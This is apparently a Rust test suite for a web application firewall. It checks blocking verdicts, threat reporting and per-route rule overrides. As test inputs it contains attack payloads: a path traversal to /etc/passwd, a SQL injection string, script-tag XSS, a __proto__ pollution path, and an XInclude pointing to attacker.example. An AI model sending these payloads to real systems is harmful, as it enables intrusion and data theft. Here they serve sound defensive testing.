use bytes::Bytes;
use http::Method;
use shieldwaf::security::waf::{
    Channel, ModuleName, RouteRule, RouteTable, ThreatEvent, ThreatReporter, WafEngine, WafRequest,
};
use shieldwaf::WafOptions;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

#[derive(Default)]
struct CountingReporter {
    hits: AtomicUsize,
}

impl ThreatReporter for CountingReporter {
    fn warn(&self, event: &str, metadata: &ThreatEvent<'_>) {
        assert_eq!(event, "waf_block");
        assert!(!metadata.verdict.success);
        self.hits.fetch_add(1, Ordering::SeqCst);
    }
}

fn engine(options: &WafOptions) -> (WafEngine, Arc<CountingReporter>) {
    let reporter = Arc::new(CountingReporter::default());
    let engine = WafEngine::new(options, reporter.clone()).unwrap();
    (engine, reporter)
}

#[tokio::test]
async fn test_clean_get_is_safe() {
    let (engine, reporter) = engine(&WafOptions::default());
    let mut request = WafRequest::new(Method::GET, "/")
        .header("user-agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_0) Safari/605.1.15")
        .header("accept-language", "en-US,en;q=0.9");

    let verdict = engine.check(&mut request).await;
    assert!(verdict.success);
    assert!(verdict.results.is_empty());
    assert_eq!(reporter.hits.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn test_traversal_reported_once() {
    let (engine, reporter) = engine(&WafOptions::default());
    let mut request = WafRequest::new(Method::GET, "/../etc/passwd");

    let verdict = engine.check(&mut request).await;
    assert!(!verdict.success);
    let finding = verdict.finding(ModuleName::DirectoryTraversal).unwrap();
    assert_eq!(finding.data[0].input, Channel::Url);
    assert_eq!(finding.data[0].affected, vec!["/../etc/passwd"]);
    assert_eq!(reporter.hits.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn test_same_request_same_verdict() {
    let (engine, _) = engine(&WafOptions::default());
    let build = || {
        http::Request::builder()
            .method(Method::POST)
            .uri("/api?x=1")
            .header("content-type", "application/json")
            .body(Bytes::from_static(br#"{"q":"1' OR '1'='1","tags":["<script>"]}"#))
            .unwrap()
    };

    let first = engine.check(&mut WafRequest::from(build())).await;
    let second = engine.check(&mut WafRequest::from(build())).await;
    assert_eq!(first, second);
    assert!(first.finding(ModuleName::SqlInjection).is_some());
    assert!(first.finding(ModuleName::Xss).is_some());
}

#[tokio::test]
async fn test_unknown_ignore_names_are_noop() {
    let options = WafOptions::from_json(r#"{"ignoreModules": ["ddos", "rate-limit"]}"#).unwrap();
    let (engine, _) = engine(&options);
    let mut request = WafRequest::new(Method::GET, "/<script>");
    assert!(engine.check(&mut request).await.finding(ModuleName::Xss).is_some());
}

#[tokio::test]
async fn test_reload_changes_later_verdicts() {
    let (engine, _) = engine(&WafOptions::default());
    let mut request = WafRequest::new(Method::GET, "/legacy/__proto__");
    assert!(!engine.check(&mut request).await.success);

    let rule = RouteRule::ignore([ModuleName::PrototypePollution]);
    let table = RouteTable::from_rules([("/legacy/**", &rule)]).unwrap();
    engine.reload_routes(table);

    let mut request = WafRequest::new(Method::GET, "/legacy/__proto__");
    assert!(engine.check(&mut request).await.success);
}

#[tokio::test]
async fn test_xml_override_applies_only_to_its_route() {
    let options = WafOptions::from_json(
        r#"{"ignoreRoutes": {"/api/profile": {"ignoreModules": ["xml-injection"], "method": "POST"}}}"#,
    )
    .unwrap();
    let (engine, reporter) = engine(&options);
    let body = r#"{"bio":"<xi:include href='http://attacker.example/x.xml'/>"}"#;
    let request = |path: &str| {
        WafRequest::new(Method::POST, path)
            .header("content-type", "application/json")
            .body(Bytes::from(body))
    };

    let verdict = engine.check(&mut request("/api/profile")).await;
    assert!(verdict.success, "{verdict:?}");
    assert_eq!(reporter.hits.load(Ordering::SeqCst), 0);

    let verdict = engine.check(&mut request("/api/other")).await;
    assert!(!verdict.success);
    let modules: Vec<_> = verdict.results.iter().map(|f| f.module).collect();
    assert_eq!(modules, vec![ModuleName::XmlInjection]);
    assert_eq!(verdict.results[0].data[0].input, Channel::Body);
    assert_eq!(reporter.hits.load(Ordering::SeqCst), 1);
}
